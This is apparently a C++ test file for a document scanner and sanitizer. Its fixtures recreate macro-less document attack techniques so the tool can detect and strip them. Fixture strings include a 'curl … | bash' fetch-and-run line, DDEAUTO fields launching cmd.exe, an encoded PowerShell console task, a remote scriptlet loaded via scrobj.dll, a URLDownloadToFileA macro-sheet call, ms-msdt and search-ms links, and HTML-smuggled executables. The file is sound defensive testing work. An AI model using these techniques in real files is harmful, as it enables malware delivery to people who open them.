// What malware of 2022 to 2025 hides in documents beside macros, read as Word, Excel, PowerPoint, Acrobat and the
// console read it, and taken out.
#include <doctest/doctest.h>

#include <algorithm>

#include "base/encode.h"
#include "content/archive/archive.h"
#include "content/made_files.h"
#include "content/sanitize.h"
#include "content/testing.h"

namespace sekisho::content {
namespace {
using testing::put;
using testing::zip_of;

bool has_link(const Document& document, std::string_view url) {
  return std::any_of(document.links.begin(), document.links.end(),
                     [&](const Link& link) { return link.url.find(url) != link.url.npos; });
}
Document read_bytes(const std::string& bytes, const std::string& name) {
  Budget budget;
  return read(bytes, {.as = ReadOptions::As::file, .filename = name}, budget);
}

std::string office(const std::string& part, const std::string& type,
                   std::vector<std::pair<std::string, std::string>> members) {
  members.insert(members.begin(), {"[Content_Types].xml", "<Types><Override PartName=\"/" + part + "\" ContentType=\"" +
                                                              type + "\"/></Types>"});
  return zip_of(members);
}
const std::string word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const std::string excel = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const std::string slides = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml";

std::string mashup() {
  const auto package = zip_of(
      {{"Formulas/Section1.m", "section Section1; shared Query1 = Web.Contents(\"https://query.example.com/data\");"}});
  std::string bytes;
  put(bytes, 0, 4), put(bytes, package.size(), 4);
  return "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">" + to_base64(bytes + package) +
         "</DataMashup>";
}

}  // namespace

TEST_CASE("documents that act without macros are told, and lose it when they are cleaned") {
  const std::string rels =
      "<Relationships><Relationship Id=\"r1\" Type=\"http://x/aFChunk\" Target=\"chunk.rtf\"/>"
      "<Relationship Id=\"r2\" Type=\"http://x/hyperlink\" Target=\"https://honest.example.com/\" "
      "TargetMode=\"External\"/>"
      "<Relationship Id=\"r3\" Type=\"http://x/hyperlink\" Target=\"file:///C:/Windows/System32/cmd.exe\" "
      "TargetMode=\"External\"/></Relationships>";
  const std::string body = "<w:document><w:p><w:t>Report</w:t></w:p><w:altChunk r:id=\"r1\"/></w:document>";
  struct Row {
    std::string says, kind, bytes, trait;
    std::vector<std::string> gone, stays;
  };
  const Row rows[] = {
      {"another document brought in",
       "docx",
       office("word/document.xml", word,
              {{"word/document.xml", body},
               {"word/_rels/document.xml.rels", rels},
               {"word/chunk.rtf", "{\\rtf1 {\\object\\objupdate{\\*\\objclass Equation.3}}}"}}),
       "office.embedded_file",
       {"Equation.3", "cmd.exe"},
       {"https://honest.example.com/", "Report"}},
      {"a macro project under another name",
       "docm",
       office("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml",
              {{"word/document.xml", body},
               {"word/_rels/document.xml.rels",
                "<Relationships><Relationship Id=\"r1\" Type=\"http://x/vbaProject\" "
                "Target=\"picture.dat\"/></Relationships>"},
               {"word/picture.dat", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 project"}}),
       "office.macro",
       {"project", "vbaProject"},
       {"Report"}},
      {"a ribbon that calls a macro",
       "docx",
       office("word/document.xml", word,
              {{"word/document.xml", body},
               {"customUI/customUI14.xml", "<customUI xmlns=\"x\" onLoad=\"Module1.Start\"/>"}}),
       "office.macro.autorun",
       {"Module1.Start"},
       {"Report"}},
      {"Power Query",
       "xlsx",
       office("xl/workbook.xml", excel, {{"xl/workbook.xml", "<workbook/>"}, {"customXml/item1.xml", mashup()}}),
       "office.external_data",
       {"UEsDB"},
       {"<workbook/>"}},
      {"a connection that refreshes when the file opens",
       "xlsx",
       office("xl/workbook.xml", excel,
              {{"xl/workbook.xml", "<workbook/>"},
               {"xl/connections.xml",
                "<connections><connection id=\"1\" refreshOnLoad=\"1\" odcFile=\"\\\\1.2.3.4\\s\\a.odc\"><webPr "
                "url=\"https://data.example.com/x\"/></connection></connections>"}}),
       "office.external_data",
       {"data.example.com", "a.odc", "refreshOnLoad=\"1\""},
       {"refreshOnLoad=\"0\""}},
      {"a click that starts a program",
       "pptx",
       office("ppt/presentation.xml", slides,
              {{"ppt/presentation.xml", "<p:presentation/>"},
               {"ppt/slides/slide1.xml", "<p:sld><a:hlinkClick r:id=\"r3\" action=\"ppaction://program\"/></p:sld>"},
               {"ppt/slides/_rels/slide1.xml.rels", rels}}),
       "office.action",
       {"ppaction", "cmd.exe"},
       {"https://honest.example.com/"}},
  };
  for (const auto& row : rows) {
    CAPTURE(row.says);
    const auto document = read_bytes(row.bytes, "a." + row.kind);
    CHECK(document.parts[0].kind == row.kind);
    CHECK(has_trait(document, row.trait));
    Budget budget;
    const auto clean = sanitize(row.bytes, row.kind, budget);
    REQUIRE(clean.has_value());
    std::string text;  // all members, unpacked
    const auto after = read_bytes(*clean, "a." + row.kind);
    CHECK_FALSE(after.parts[0].damaged);
    Budget second;
    Document zip;
    zip.add_part(-1, PartOrigin::root);
    zip.parts[0].data = *clean;
    read_zip(zip, 0, {}, second);
    for (const auto& part : zip.parts) text += std::string(part.data) + "\n";
    for (const auto& word_kept : row.stays) {
      CAPTURE(word_kept);
      CHECK(text.find(word_kept) != std::string::npos);
    }
    for (const auto& word_gone : row.gone) {
      CAPTURE(word_gone);
      CHECK(text.find(word_gone) == std::string::npos);
    }
  }
  CHECK(has_link(read_bytes(rows[3].bytes, "a.xlsx"), "https://query.example.com/data"));
}

TEST_CASE("a web archive behind a PDF header is read as Word reads it") {
  const std::string pdf =
      "%PDF-1.7\n1 0 obj <</Type/Catalog>> endobj\nMIME-Version: 1.0\r\nContent-Type: multipart/related; "
      "boundary=\"b\"\r\n\r\n--b\r\nContent-Location: file:///C:/x.htm\r\nContent-Type: text/html\r\n\r\n"
      "<html><a href=\"https://maldoc.example.com/\">x</a></html>\r\n--b\r\nContent-Location: "
      "file:///C:/editdata.mso\r\nContent-Type: application/x-mso\r\nContent-Transfer-Encoding: "
      "base64\r\n\r\nQWN0aXZlTWltZQ==\r\n--b--\r\n%%EOF\n";
  const auto document = read_bytes(pdf, "invoice.doc");
  CHECK(has_trait(document, "file.polyglot"));
  CHECK(has_link(document, "https://maldoc.example.com/"));
}

TEST_CASE("consoles and addresses that start something are told, ordinary ones are not") {
  const auto console = read_bytes(
      "<?xml version=\"1.0\"?>\n<MMC_ConsoleFile ConsoleVersion=\"3.0\"><StringTables><StringTable><Strings><String "
      "ID=\"23\">res://apds.dll/redirect.html?target=javascript:eval(external.Document.ScopeNamespace)</String>"
      "<String ID=\"8\">var x = new ActiveXObject(\"WScript.Shell\"); x.Run(\"cmd /c "
      "calc\")</String></Strings></StringTable></StringTables></MMC_ConsoleFile>",
      "a.msc");
  CHECK(has_trait(console, "shortcut.command"));
  CHECK(has_trait(console, "script.shell"));
  const auto task = read_bytes(
      "<?xml version=\"1.0\"?>\n<MMC_ConsoleFile><ConsoleTaskpads><Task Type=\"CommandLine\" "
      "Command=\"powershell.exe\"><CommandLine Params=\"-enc AAAA\"/></Task></ConsoleTaskpads></MMC_ConsoleFile>",
      "a.msc");
  CHECK(has_trait(task, "shortcut.command"));
  CHECK_FALSE(has_trait(read_bytes("<?xml version=\"1.0\"?>\n<MMC_ConsoleFile><StringTables><Strings><String>Event "
                                   "Viewer</String></Strings></StringTables></MMC_ConsoleFile>",
                                   "a.msc"),
                        "shortcut.command"));
  struct Row {
    std::string page, trait;
  };
  const Row rows[] = {
      {"<a href=\"search-ms:query=Invoice&crumb=location:\\\\1.2.3.4@80\\x\">Open</a>", "shortcut.remote_target"},
      {"<script>location.href='search-ms:query=a&crumb=location:\\\\\\\\1.2.3.4@8888\\\\share'</script>",
       "shortcut.remote_target"},
      {"<a href=\"ms-msdt:/id PCWDiagnostic /skip force\">x</a>", "shortcut.command"},
      {"<a href=\"file://host.example.com@SSL/DavWWWRoot/run.lnk\">x</a>", "shortcut.remote_target"},
      {"<a href=\"ms-appinstaller:?source=https://a.example.com/a.appx\">x</a>", "shortcut.remote_target"},
      {"<a href=\"file://fileserver/public/report.docx\">x</a> <a "
       "href=\"ms-word:ofe|u|https://a.example.com/x.docx\">x</a> <a href=\"search:news\">x</a> <a "
       "href=\"mailto:a@example.com\">x</a>",
       ""}};
  for (const auto& row : rows) {
    CAPTURE(row.page);
    const auto document = read_bytes("<!DOCTYPE html><html><body>" + row.page + "</body></html>", "a.html");
    if (row.trait.empty())
      CHECK_FALSE((has_trait(document, "shortcut.command") || has_trait(document, "shortcut.remote_target")));
    else
      CHECK(has_trait(document, row.trait));
  }
}

TEST_CASE("small files that fetch something by themselves are told") {
  struct Row {
    std::string name, bytes, trait;
  };
  const std::string spelled =
      "{\\rtf1\\uc1{\\*\\template \\u104?\\u116?\\u116?\\u112?\\u58?//far.example.com/a.dotm}x}";
  const Row rows[] = {
      {"a.rtf", spelled, "office.remote_template"},
      {"a.theme", "[Theme]\r\nDisplayName=x\r\n[VisualStyles]\r\nPath=\\\\far.example.com\\s\\a.msstyles\r\n",
       "shortcut.remote_target"},
      {"a.asx", "<asx version=\"3.0\"><entry><ref href=\"file://far.example.com/s/a.mp3\"/></entry></asx>",
       "shortcut.remote_target"},
      {"a.search-ms",
       "<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"><query><scope><include "
       "path=\"\\\\far.example.com\\s\"/></scope></query></persistedQuery>",
       "shortcut.remote_target"},
      {"a.jnlp", "<jnlp codebase=\"https://far.example.com\"><resources><jar href=\"a.jar\"/></resources></jnlp>",
       "shortcut.remote_program"},
      {"a.application",
       "<?xml version=\"1.0\"?><asmv1:assembly "
       "xmlns:asmv1=\"urn:schemas-microsoft-com:asm.v1\"><deployment><deploymentProvider "
       "codebase=\"https://far.example.com/a.application\"/></deployment></asmv1:assembly>",
       "shortcut.remote_program"},
      {"a.appinstaller",
       "<?xml version=\"1.0\"?><AppInstaller Uri=\"https://far.example.com/a.appinstaller\"><MainPackage "
       "Uri=\"https://far.example.com/a.msix\"/></AppInstaller>",
       "shortcut.remote_program"},
      {"a.odc",
       "<html><odc:OfficeDataConnection "
       "xmlns:odc=\"urn:schemas-microsoft-com:office:odc\"><odc:ConnectionString>Provider=x;Data "
       "Source=https://far.example.com</odc:ConnectionString></odc:OfficeDataConnection></html>",
       "office.external_data"},
      {"a.inf",
       "[version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\nUnRegisterOCXs=U\r\n[U]\r\n%11%\\scrobj.dll,NI,https://"
       "far.example.com/a.sct\r\n",
       "script.shell"},
      {"a.applescript", "do shell script \"curl -s https://far.example.com/a | bash\"", "script.shell"},
      {"a.svg",
       "<svg xmlns=\"http://www.w3.org/2000/svg\"><a><animate attributeName=\"href\" "
       "values=\"javascript:alert(1)\"/><text>x</text></a></svg>",
       "svg.script"},
      {"a.xml",
       "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument "
       "xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" w:macrosPresent=\"yes\"></w:wordDocument>",
       "office.macro"},
      {"b.xml",
       "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook "
       "xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Cell ss:Formula=\"=cmd|'/c calc'!A0\"/></Workbook>",
       "office.dde"},
  };
  for (const auto& row : rows) {
    CAPTURE(row.name);
    CHECK(has_trait(read_bytes(row.bytes, row.name), row.trait));
  }
  CHECK_FALSE(has_trait(
      read_bytes("[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\a.jpg\r\n",
                 "a.theme"),
      "shortcut.remote_target"));
  CHECK_FALSE(has_trait(
      read_bytes("<asx version=\"3.0\"><entry><ref href=\"https://far.example.com/a.mp3\"/></entry></asx>", "a.asx"),
      "shortcut.remote_target"));
}

TEST_CASE("a file that a page hands out is found as numbers, as hexadecimal digits and in a link") {
  const std::string file = "MZ" + std::string(100, '\x01');
  std::string numbers, hexadecimal, digits;
  for (const char c : file) {
    numbers += std::to_string(static_cast<unsigned char>(c)) + ", ";
    const std::string pair{"0123456789abcdef"[static_cast<unsigned char>(c) >> 4], "0123456789abcdef"[c & 15]};
    hexadecimal += "0x" + pair + ",";
    digits += pair;
  }
  const std::string pages[] = {
      "<script>saveAs(new Blob([new Uint8Array([" + numbers + "])]), 'a.exe')</script>",
      "<script>var a = [" + hexadecimal + "]; l.href = URL.createObjectURL(new Blob([new Uint8Array(a)]))</script>",
      "<script>var a = '" + digits + "'; l.href = URL.createObjectURL(new Blob([of(a)]))</script>",
      "<a href=\"data:application/octet-stream;base64," + to_base64(file) + "\" download=a.exe>x</a>"};
  for (const auto& page : pages) {
    CAPTURE(page);
    const auto html = "<!DOCTYPE html><html><body>" + page + "</body></html>";
    const auto document = read_bytes(html, "a.html");
    CHECK(has_trait(document, "html.smuggling"));
    CHECK(
        std::any_of(document.parts.begin(), document.parts.end(), [&](const Part& part) { return part.data == file; }));
  }
  CHECK_FALSE(has_trait(read_bytes("<!DOCTYPE html><html><body><script>var points = [" + numbers.substr(8) +
                                       "]; draw(points)</script></body></html>",
                                   "a.html"),
                        "html.script_payload"));
}

TEST_CASE("a PDF that opens a page by itself or takes its bytes from a share is cleaned of it") {
  const std::string pdf =
      "%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(https://self.example.com/)>> >> endobj\n2 "
      "0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
      "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 1 "
      "1]/A<</S/URI/URI(https://link.example.com/)>> >>]/Contents 4 0 R>> endobj\n"
      "4 0 obj <</Length 0/F(\\\\\\\\1.2.3.4\\\\share\\\\x)>> stream\n\nendstream endobj\ntrailer <</Root 1 0 "
      "R>>\n%%EOF\n";
  Budget budget;
  const auto clean = sanitize(pdf, "pdf", budget);
  REQUIRE(clean.has_value());
  CHECK(clean->find("self.example.com") == std::string::npos);
  CHECK(clean->find("1.2.3.4") == std::string::npos);
  CHECK(clean->find("link.example.com") != std::string::npos);
}

TEST_CASE("a DDE field is emptied, however it is put together, and the other fields of its page stay") {
  const auto field = [](const std::string& instruction) {
    return "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + instruction +
           "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar "
           "w:fldCharType=\"end\"/></w:r>";
  };
  const auto text = [](const std::string& words) { return "<w:r><w:instrText>" + words + "</w:instrText></w:r>"; };
  const std::string link = field(text(" HYPERLINK \"https://hidden.example.com/added\" ")),
                    pages = "<w:fldSimple w:instr=\" REF middle \"/>";
  struct Row {
    std::string says, field;
    bool is_dde;
  };
  const Row rows[] = {
      {"whole", field(text(" DDEAUTO c:\\cmd.exe \"/k calc.exe\" ")), true},
      {"in pieces", field(text(" DD") + text("EAUTO c:\\cmd.exe ") + text("\"/k calc.exe\"")), true},
      {"its arguments spelled by other fields",
       field(text(" DDE ") + field(text(" QUOTE 99 97 108 99 ")) + text(" calc.exe")), true},
      {"its name spelled by another field", field(field(text(" QUOTE 68 68 69 ")) + text(" calc.exe")), true},
      {"simple", "<w:fldSimple w:instr=\" DDEAUTO calc.exe \"/>", true},
      {"none", field(text(" TOC \\o \"1-3\" ") + field(text(" PAGEREF hidden "))), false},
  };
  for (const auto& row : rows) {
    CAPTURE(row.says);
    const auto bytes =
        office("word/document.xml", word,
               {{"word/document.xml", "<w:document><w:p>" + link + row.field + pages + "</w:p></w:document>"}});
    CHECK(has_trait(read_bytes(bytes, "a.docx"), "office.dde") == row.is_dde);
    Budget budget, second;
    const auto clean = sanitize(bytes, "docx", budget);
    REQUIRE(clean.has_value());
    const auto after = read_bytes(*clean, "a.docx");
    CHECK_FALSE(has_trait(after, "office.dde"));
    CHECK(has_link(after, "https://hidden.example.com/added"));
    Document zip;
    zip.add_part(-1, PartOrigin::root);
    zip.parts[0].data = *clean;
    zip.parts[0].kind = "zip";
    read_zip(zip, 0, {}, second);
    std::string all;
    for (const auto& part : zip.parts) all += part.data.substr(0, part.children.empty() ? part.data.size() : 0);
    CHECK(all.find("REF middle") != all.npos);
    if (row.is_dde)
      CHECK(all.find("calc.exe") == all.npos);
    else
      CHECK(all.find("PAGEREF hidden") != all.npos);
  }
}

TEST_CASE("what runs or fetches is told in the less trodden forms of Office") {
  const std::string sheet =
      "<?xml version=\"1.0\"?><xm:macrosheet "
      "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
      "<row><c "
      "r=\"A1\"><f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"https://far.example/x\",\"x\")</f></c></row>"
      "</sheetData></xm:macrosheet>";
  const std::string ods_content =
      "<office:document-content><table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c "
      "calc&quot;;&quot;x&quot;)\"/>"
      "</office:document-content>";
  const std::string odt_content =
      "<office:document-content><draw:image xlink:href=\"\\\\far.example\\s\\x.png\"/></office:document-content>";
  const auto odf = [](const std::string& type, const std::string& content) {
    return zip_of({{"mimetype", "application/vnd.oasis.opendocument." + type}, {"content.xml", content}});
  };
  struct Row {
    std::string says, name, bytes, trait, link;
  };
  const Row rows[] = {
      {"a macro sheet under another name", "a.xlsm",
       office("xl/workbook.xml", excel, {{"xl/workbook.xml", "<workbook/>"}, {"xl/other/q.xml", sheet}}), "office.xlm",
       "https://far.example/x"},
      {"and without the ending of XML", "a.xlsm",
       office("xl/workbook.xml", excel, {{"xl/workbook.xml", "<workbook/>"}, {"xl/other/q.dat", sheet}}), "office.xlm",
       "https://far.example/x"},
      {"an address in the words of a connection", "a.xlsx",
       office("xl/workbook.xml", excel,
              {{"xl/workbook.xml", "<workbook/>"},
               {"xl/connections.xml",
                "<connections><connection><dbPr connection=\"FILE=https://far.example/q\"/>"
                "</connection></connections>"}}),
       "office.external_data", "https://far.example/q"},
      {"an address in two pieces", "a.xlsx",
       office("xl/workbook.xml", excel,
              {{"xl/workbook.xml", "<workbook/>"},
               {"xl/worksheets/sheet1.xml",
                "<worksheet><c><f>HYPERLINK(\"https://fa\"&amp;\"r.example/x\",\"x\")</f></c></worksheet>"}}),
       "", "https://far.example/x"},
      {"a film that plays a page", "a.docx",
       office("word/document.xml", word,
              {{"word/document.xml",
                "<w:document><wp15:webVideoPr embeddedHtml=\"&lt;iframe "
                "src=&quot;https://far.example/v&quot;&gt;\"/></w:document>"}}),
       "office.external_object", "https://far.example/v"},
      {"DDE in a formula of OpenDocument", "a.ods", odf("spreadsheet", ods_content), "office.dde", ""},
      {"a picture on a share in OpenDocument", "a.odt", odf("text", odt_content), "office.remote_image",
       "\\\\far.example\\s\\x.png"},
      {"a cell of a page named as a workbook", "a.xls",
       "<html><table><tr><td>Total</td><td>\n =cmd|'/c calc'!A0</td></tr></table></html>", "office.dde", ""},
      {"a formula beside a cell", "a.xls",
       "<html xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><td "
       "x:fmla=\"=WEBSERVICE(&quot;https://far.example/w&quot;)\">"
       "1</td></html>",
       "office.web_formula", "https://far.example/w"},
      {"a field of a page that Word saved", "a.doc",
       "<html><body><!--[if supportFields]><span style='mso-element:field-begin'></span> DDEAUTO <b>cmd</b> "
       "\"/k calc\"<![endif]--></body></html>",
       "office.dde", ""},
      {"a linked object of RTF", "a.rtf",
       "{\\rtf1{\\object\\objautlink{\\*\\objdata 01050000 01000000 02000000 4100 16000000 "
       "68747470733a2f2f6661722e6578616d706c652f7800 00000000}}}",
       "office.ole_link", "https://far.example/x"},
  };
  for (const auto& row : rows) {
    CAPTURE(row.says);
    const auto document = read_bytes(row.bytes, row.name);
    if (!row.trait.empty()) CHECK(has_trait(document, row.trait));
    if (!row.link.empty()) CHECK(has_link(document, row.link));
  }
  const auto plain = std::string("<html><body>a page with - a dash, + a plus and mail@host.example</body></html>");
  CHECK_FALSE(has_trait(read_bytes(plain, "a.html"), "office.dde"));
}

}  // namespace sekisho::content
